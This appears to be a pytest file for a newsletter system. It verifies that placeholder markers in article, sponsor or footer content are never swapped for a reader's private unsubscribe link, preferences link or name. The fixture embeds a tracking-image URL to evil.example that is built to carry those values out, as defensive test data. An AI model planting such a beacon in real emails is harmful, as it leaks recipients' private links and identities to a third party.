"""Personal markers come only from the layout: marker-shaped text in any field an editor or a feed supplies stays
literal text, so an article can't make a reader's email carry their private links to a third party."""

import pytest

from newsletter import placeholders
from newsletter.delivery.messages import Recipient, personalise, skeleton_build
from newsletter.models import IssueArticle
from newsletter.services.rendering import issue_render
from tests.factories import ArticleFactory, issue_to_send

pytestmark = pytest.mark.django_db

TOKEN = "6f1c1a52-8f0b-4a39-9e39-2b9b0a0c7d11"
EXFILTRATE = "https://evil.example/p.png?u=%%MH_UNSUBSCRIBE_URL%%&p=%%MH_PREFERENCES_URL%%&n=%%MH_NAME%%"


@pytest.fixture
def hostile_issue(settings):
    settings.SITE_URL = "https://news.example.org"
    issue = issue_to_send()
    issue.intro = "Intro %%MH_PREFERENCES_URL%%"
    issue.sponsor_name, issue.sponsor_text = "Sponsor %%MH_NAME%%", "Buy %%MH_UNSUBSCRIBE_URL%%"
    issue.sponsor_url = "https://sponsor.example/?u=%%MH_UNSUBSCRIBE_URL%%"
    issue.save()
    newsletter = issue.newsletter
    newsletter.footer_text, newsletter.header_text = "Footer %%MH_UNSUBSCRIBE_URL%%", "Head %%MH_NAME%%"
    newsletter.save()
    article = ArticleFactory(
        headline="Hi %%MH_NAME%%",
        dek="Dek %%MH_PREFERENCES_URL%%",
        byline="By %%MH_NAME%%",
        section="Sec %%MH_NAME%%",
        canonical_url="https://news.example.org/a?u=%%MH_UNSUBSCRIBE_URL%%",
        image_url="https://evil.example/i.png?u=%%MH_UNSUBSCRIBE_URL%%",
        image_alt="Alt %%MH_NAME%%",
        key_facts=["Fact %%MH_PREFERENCES_URL%%"],
        bottom_line="Bottom %%MH_UNSUBSCRIBE_URL%%",
        body_html=f'<p>Body <img src="{EXFILTRATE}" alt="x"> %%MH_NAME%%</p>',
        commentary_html='<p><a href="https://evil.example/?p=%%MH_PREFERENCES_URL%%">c</a></p>',
    )
    IssueArticle.objects.create(issue=issue, article=article, position=5, blurb="Blurb %%MH_NAME%%")
    return issue


def test_marker_text_from_content_is_never_replaced_by_a_readers_values(hostile_issue, parse):
    rendered = issue_render(hostile_issue, use_cache=False)
    skeleton = skeleton_build(hostile_issue, rendered)
    message = personalise(skeleton, Recipient(41, "ann@example.com", "Ann Secret", TOKEN))
    mail = parse(message.data)
    html = mail.get_body(("html",)).get_content()
    text = mail.get_body(("plain",)).get_content()
    personal = message.values.unsubscribe_url.split("/u/")[1].strip("/")
    preferences = message.values.preferences_url.split("/preferences/")[1].strip("/")
    for body in (html, text):
        # The layout's own footer still carries the reader's links, exactly once each...
        assert body.count(personal) == 1 and body.count(preferences) == 1
        # ...and nothing the content wrote became the reader's name or links.
        assert body.count("Ann Secret") <= 1
    assert "evil.example/p.png?u=%%MH_" in html.replace("&#37;", "%").replace("&amp;", "&")
    assert "Ann Secret" not in html.split("evil.example", 1)[1].split(">", 1)[0]
    assert "\x00" not in message.data.decode()


def test_the_layouts_markers_carry_a_nonce_content_cannot_know():
    first, second = placeholders.render_markers(), placeholders.render_markers()
    assert set(first) == set(placeholders.MARKERS)
    assert first != second and all("%%MH_" not in m for m in first.values())
    sealed = placeholders.seal(f"{first[placeholders.NAME]} %%MH_NAME%% %%%MH_NAME%%", first, html=False)
    assert sealed.count(placeholders.NAME) == 1
